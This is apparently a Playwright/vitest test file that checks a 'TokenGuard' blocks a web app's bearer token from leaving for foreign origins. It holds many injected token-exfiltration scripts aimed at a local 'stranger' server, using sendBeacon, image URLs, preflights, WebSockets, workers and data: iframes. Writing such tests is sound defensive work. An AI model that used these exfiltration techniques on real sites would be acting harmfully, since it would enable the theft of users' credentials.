import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright';
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
import { silentLog } from '../../../src/lib/log.js';
import { TokenGuard } from '../../../src/site/web/token-guard.js';
import { launchHeadless } from './browsers.js';

const token = 'token-of-the-web-app-0123456789';
const heard: string[] = [];
let servers: Server[] = [];
let browser: Browser;
let [web, api, stranger, provider] = ['', '', '', ''];
/** Answers to preflights of the stranger: it allows nothing. */
let strangerAllows = false;

async function serve(name: string, host: string, allows: () => boolean): Promise<string> {
  const server = createServer((request, response) => {
    const { method, url, headers } = request;
    if (url?.endsWith('.js') === true) {
      response.setHeader('content-type', 'text/javascript');
      return response.end(decodeURIComponent(url.slice(1, -3)));
    }
    if (method !== 'GET' || headers.origin !== undefined) {
      heard.push(`${name} ${method} ${url} ${headers.authorization ?? ''}`.trim());
    }
    if (allows()) {
      response.setHeader('access-control-allow-origin', headers.origin ?? '*');
      response.setHeader('access-control-allow-headers', 'authorization, x-own');
      response.setHeader('access-control-allow-methods', 'OPTIONS');
    }
    response.setHeader('content-type', 'text/html');
    return response.end('<title>page</title>');
  });
  server.on('upgrade', (request, socket) => {
    heard.push(`${name} socket ${request.url}`);
    socket.destroy();
  });
  servers = [...servers, server];
  server.listen(0, host);
  await once(server, 'listening');
  return `http://${host}:${(server.address() as AddressInfo).port}`;
}

beforeAll(async () => {
  [web, api, stranger, provider] = await Promise.all([
    serve('web', '127.0.0.1', () => true),
    serve('api', '127.0.0.2', () => true),
    serve('stranger', '127.0.0.3', () => strangerAllows),
    serve('provider', '127.0.0.4', () => false),
  ]);
  browser = await launchHeadless();
});
beforeEach(() => {
  strangerAllows = true;
});
afterEach(async () => {
  await Promise.all(browser.contexts().map((context) => context.close()));
  heard.length = 0;
});
afterAll(async () => {
  await browser?.close();
  for (const server of servers) server.close();
});

async function open(origin = web): Promise<{ page: Page; guard: TokenGuard }> {
  const context = await browser.newContext({ serviceWorkers: 'block' });
  await context.addCookies([{ name: 'access_token-127.0.0.1', value: token, url: web }]);
  const site = { profile: 'alice', webOrigin: web, token: null, sockets: true };
  const isApi = (each: string) => each === api;
  const guard = await TokenGuard.keep(context, { ...site, isApi }, silentLog);
  const page = await context.newPage();
  await page.goto(origin);
  return { page, guard };
}

/** Runs a script in the page that may well fail, and waits until all that it sent has been judged. */
async function run(page: Page, script: string): Promise<void> {
  await page.evaluate(
    (text) => new Function(`return (async () => { ${text} })().catch(() => {})`)(),
    script,
  );
}

const ask = (address: string, headers: object) =>
  `await fetch('${address}', { method: 'POST', headers: ${JSON.stringify(headers)}, body: 'x' });`;
const bearer = { authorization: `Bearer ${token}` };
const ended = (act: string) => `await new Promise((done) => { ${act}; setTimeout(done, 4000); });`;

it('lets the token go to the API, and ends all when it is on its way elsewhere', async () => {
  const { page, guard } = await open();
  await run(page, ask(`${api}/queries`, bearer));
  expect(heard).toContain(`api POST /queries Bearer ${token}`);
  expect(guard.astray.aborted).toBe(false);
  await run(page, ask(`${stranger}/queries`, bearer));
  expect(heard.join()).not.toContain('stranger POST');
  expect(() => guard.astray.throwIfAborted()).toThrow(`wanted to send its token to ${stranger}`);
});

it.each([
  ['an address', `navigator.sendBeacon('STRANGER/?t=${token}', '')`],
  ['a body', `navigator.sendBeacon('STRANGER/', '${token}')`],
  ['a picture', `new Image().src = 'STRANGER/${token}.png'`],
  [
    'a request by the method of a preflight',
    `fetch('STRANGER/', { method: 'OPTIONS', headers: { authorization: 'Bearer ${token}' } })`,
  ],
  [
    'the address of a preflight',
    `fetch('STRANGER/?t=${token}', { method: 'POST', headers: { 'x-own': '1' } })`,
  ],
  ['a socket', `new WebSocket('SOCKET/?t=${token}')`],
  [
    'a message of a socket',
    `const s = new WebSocket('SOCKET/'); s.onopen = () => s.send('${token}')`,
  ],
  [
    'a worker',
    `new Worker('/' + encodeURIComponent("fetch('STRANGER/',{headers:{authorization:'Bearer ${token}'}})") + '.js')`,
  ],
  [
    'a shared worker',
    `new SharedWorker('/' + encodeURIComponent("fetch('STRANGER/',{headers:{authorization:'Bearer ${token}'}})") + '.js')`,
  ],
  [
    'a frame of no origin',
    `const f = document.createElement('iframe'); f.src = "data:text/html,<script>fetch('STRANGER/',{headers:{authorization:'Bearer ${token}'}})</" + "script>"; document.body.append(f)`,
  ],
])('stops it in %s', async (_, script) => {
  const { page, guard } = await open();
  const meant = script
    .replaceAll('STRANGER', stranger)
    .replaceAll('SOCKET', stranger.replace('http', 'ws'));
  const gone = once(guard.astray, 'abort', { signal: AbortSignal.timeout(20_000) }).catch(() => {});
  await run(page, ended(meant));
  if (!guard.astray.aborted && !script.includes('onopen')) await gone;
  expect(heard.join('\n')).not.toContain(token);
  if (!script.includes('onopen')) expect(guard.astray.aborted).toBe(true);
});

it('lets no worker of the web app open a socket', async () => {
  const { page } = await open();
  const script = `new WebSocket('${stranger.replace('http', 'ws')}/worker?t=${token}');`;
  const told = `${script} fetch('${web}/done', { method: 'POST' });`;
  await run(page, `new Worker('/' + encodeURIComponent(${JSON.stringify(told)}) + '.js')`);
  await expect.poll(() => heard.join('\n'), { timeout: 20_000 }).toContain('web POST /done');
  expect(heard.join('\n')).not.toContain('socket');
});

it.each([
  ['a text', `URL.createObjectURL(new Blob([told], { type: 'text/javascript' }))`],
  ['an address of its own', `'data:text/javascript,' + encodeURIComponent(told)`],
])('lets no worker that the web app makes of %s open a socket', async (_, address) => {
  const { page } = await open();
  const socket = `${stranger.replace('http', 'ws')}/worker?t=${token}`;
  const done = `fetch('${web}/done', { method: 'POST', mode: 'no-cors' })`;
  const told = `try { new WebSocket('${socket}') } catch {} setTimeout(() => ${done}, 500);`;
  await run(page, `const told = ${JSON.stringify(told)}; new Worker(${address});`);
  await expect.poll(() => heard.join('\n'), { timeout: 20_000 }).toContain('web POST /done');
  expect(heard.join('\n')).not.toContain('socket');
});

it('lets no service worker in', async () => {
  const { page } = await open();
  await run(page, `await navigator.serviceWorker.register('/self.oninstall=0.js')`);
  const count = await page.evaluate(async () => {
    const all = await navigator.serviceWorker.getRegistrations();
    return all.length;
  });
  expect(count).toBe(0);
});

it('leaves what foreign pages send, and what their servers allow, to them', async () => {
  strangerAllows = false;
  const { page, guard } = await open(provider);
  // Its own token to its own server, and a preflight that the other server refuses: nobody answers in its place.
  await run(page, ask(`${provider}/token`, { authorization: 'Bearer its-own-token-0123' }));
  expect(heard).toContain('provider POST /token Bearer its-own-token-0123');
  await run(page, ask(`${stranger}/api`, { 'x-own': '1' }));
  expect(heard).toContain('stranger OPTIONS /api');
  expect(heard.join('\n')).not.toContain('stranger POST');
  expect(guard.astray.aborted).toBe(false);
});

it('gives no token to a second host of the same site, and ends nothing for that', async () => {
  const context = await browser.newContext();
  const site = { profile: 'alice', webOrigin: 'https://main.site.example', sockets: false };
  const isApi = (each: string) => each === 'https://api.site.example';
  const guard = await TokenGuard.keep(context, { ...site, isApi, token }, silentLog);
  const page = await context.newPage();
  await page.goto(web);
  const failures: string[] = [];
  page.on('requestfailed', (request) => failures.push(request.failure()?.errorText ?? ''));
  await run(page, `new Image().src = 'https://apollo.site.example/${token}.png'`);
  await expect.poll(() => failures.join(), { timeout: 20_000 }).toContain('BLOCKED_BY_CLIENT');
  expect(guard.astray.aborted).toBe(false);
});
